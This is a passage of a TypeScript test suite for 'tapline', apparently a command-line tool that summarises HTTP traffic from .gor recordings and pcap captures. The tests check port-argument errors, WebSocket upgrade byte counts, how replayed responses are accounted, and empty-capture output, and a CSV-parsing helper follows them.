      const kept = await runTapline(['report', file, '--max-total', '1gb']);
      assert.equal(kept.code, 1, kept.stderr);
      assert.ok(kept.stderr.includes(`tapline: budgets not judged: ${file} could not be read to the end`), kept.stderr);
    }
  });

  it('ports after a file that is no .pcap/.pcapng/.cap (x.gor:80, dump.bin:80) are a usage error naming it, not "cannot read x.gor:80"', async () => {
    const bin = join(dir, 'dump.bin');
    writeFileSync(bin, readFileSync(join(CORPUS_DIR, 'zeek-http-pipelined-requests.pcap')));
    const g = await runTapline(['report', `${current}:80`]);
    assert.equal(g.code, 2, g.stderr);
    assert.match(
      g.stderr,
      /current\.gor:80: ports name a capture's server ports; \S+current\.gor holds a \.gor recording/,
    );
    const b = await runTapline(['report', '--compare', `${bin}:80`, current]);
    assert.equal(b.code, 2, b.stderr);
    assert.match(b.stderr, /dump\.bin holds a capture without a \.pcap, \.pcapng or \.cap name/);
    const missing = await runTapline(['report', join(dir, 'nothere.gor:80')]);
    assert.equal(missing.code, 1, missing.stderr); // no such file either way: cannot read it
  });

  it('pcap ports: a port with no packet on it is warned about (not a silent empty report); a bad port is a usage error of report', async () => {
    const file = join(CORPUS_DIR, 'zeek-http-pipelined-requests.pcap');
    const none = await runTapline(['report', '--json', `${file}:9`]);
    assert.equal(none.code, 0, none.stderr);
    assert.equal(JSON.parse(none.stdout.toString()).total_requests, 0);
    assert.match(none.stderr, /pcap:9: none of its TCP packets is on port 9 \(\d+ on other ports/);
    const bad = await runTapline(['report', current, `${file}:70000`]);
    assert.equal(bad.code, 2, bad.stderr);
    assert.match(bad.stderr, /tapline report: ".*pcap:70000": port 70000 is above 65535/);
    assert.doesNotMatch(bad.stderr, /--input-raw/);
    assert.equal(bad.stdout.toString(), '', 'checked before any file is read');
  });

  it('bytes after a protocol switch (WebSocket) are in no route: the table says how many', async () => {
    const frames = Buffer.from([0x81, 0x05, ...Buffer.from('hello'), 0x81, 0x02, ...Buffer.from('hi')]);
    const packets = timed(
      turns([
        [true, Buffer.from('GET /chat HTTP/1.1\r\nHost: shop\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n')],
        [false, Buffer.from('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n')],
        [true, frames.subarray(0, 7)],
        [false, frames.subarray(7)],
      ]),
    );
    const file = join(dir, 'ws.pcap');
    writeFileSync(file, buildPcap(packets));
    const r = await runTapline(['report', file]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout.toString(), /\/chat +1 /);
    assert.match(r.stdout.toString(), /Not in any route: 11 B sent after a protocol switch/);
    const json = JSON.parse((await runTapline(['report', '--json', file])).stdout.toString());
    assert.equal(Object.values(json.inputs as Record<string, { upgraded_bytes: number }>)[0]!.upgraded_bytes, 11);
  });

  it('--responses auto: the replayed response wins when the file holds one; a plain recording is not scanned for nothing', async () => {
    const replayed = join(dir, 'replayed.gor');
    const startsReplayed = join(dir, 'starts-replayed.gor');
    const messages: Message[] = [];
    for (let i = 0; i < 5; i++) {
      const [req, original] = exchange(100 + i, `/items/${i}`, 1000, 50);
      const [, again] = exchange(100 + i, `/items/${i}`, 10, 0, '3');
      messages.push(req!, original!, again!);
    }
    writeGor(replayed, messages);
    writeGor(startsReplayed, [exchange(1, '/x', 1, 1, '3')[1]!]);
    assert.equal(await mayHoldReplayed([current, baseline]), false);
    assert.equal(await mayHoldReplayed([current, replayed]), true);
    assert.equal(await mayHoldReplayed([startsReplayed]), true);
    assert.equal(await mayHoldReplayed([join(CORPUS_DIR, 'zeek-http-pipelined-requests.pcap')]), false);

    const r = await runTapline(['report', '--json', replayed]);
    assert.equal(r.code, 0, r.stderr);
    const s = JSON.parse(r.stdout.toString());
    assert.equal(s.total_requests, 5);
    assert.equal(s.totals.response_body_bytes, 5 * 10); // the replayed bodies, not the 1000-byte originals
    assert.equal(s.accounting.original_responses_replaced, 5);
    assert.doesNotMatch(r.stderr, /warning/);
  });

  it("two replays' responses for the same requests (a replayed .gor replayed again): the later-timed is accounted, whatever the file order, and the warning says so", async () => {
    // Each request, its original, a replayed answer timed 50 ms after the request, then one timed at the request
    // (an earlier replay's, come later in the file): the replay clock decides, not the file order.
    // (test/analytics/report-replay-rounds.test.ts builds such files with real replays.)
    const twice = join(dir, 'replayed-twice.gor');
    const messages: Message[] = [];
    for (let i = 0; i < 3; i++) {
      const [req, original] = exchange(200 + i, `/twice/${i}`, 1000, 50);
      messages.push(req!, original!, exchange(200 + i, `/twice/${i}`, 10, 50, '3')[1]!);
    }
    for (let i = 0; i < 3; i++) messages.push(exchange(200 + i, `/twice/${i}`, 20, 0, '3')[1]!);
    writeGor(twice, messages);
    const r = await runTapline(['report', '--json', twice]);
    assert.equal(r.code, 0, r.stderr);
    const s = JSON.parse(r.stdout.toString());
    assert.equal(s.total_requests, 3);
    assert.equal(s.routes.find((x: { route: string }) => x.route === '/twice/:id').response_body_bytes, 3 * 10);
    assert.equal(s.accounting.earlier_replay_responses, 3);
    assert.equal(s.accounting.duplicate_responses, 0);
    assert.match(
      r.stderr,
      /replayed-twice\.gor: 3 replayed response\(s\) answer requests that a later replay answered too/,
    );
    assert.match(r.stderr, /each request counts its latest answer, by the replay clock/);
    // Without replayed responses, a second answer is no replay's: no such warning.
    const plain = join(dir, 'second-answer.gor');
    writeGor(plain, [...exchange(300, '/p', 5, 1), exchange(300, '/p', 5, 2)[1]!]);
    const p = await runTapline(['report', plain]);
    assert.equal(p.code, 0, p.stderr);
    assert.doesNotMatch(p.stderr, /warning/);
  });
});

describe('report of a capture without an exchange', () => {
  it('says there is no exchange in the status mix, not an empty "Status mix: "', async () => {
    const file = join(dir, 'empty.pcap');
    writeFileSync(file, buildPcap([]));
    const r = await runTapline(['report', file]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout.toString(), /^Status mix: no exchange$/m);
  });
});

/** RFC 4180: rows of cells; a quoted cell may hold commas, quotes (doubled) and line ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        assert.ok(q >= 0, 'a quoted cell ends');
        cell += text.slice(i, q);
        i = q + 1;
        if (text[i] !== '"') break;
        cell += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/[,\n]/);
      cell = end < 0 ? text.slice(i) : text.slice(i, i + end);
      i += cell.length;
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else {
      rows.push(row);
      row = [];
      i++;
    }
  }
  return rows;
}
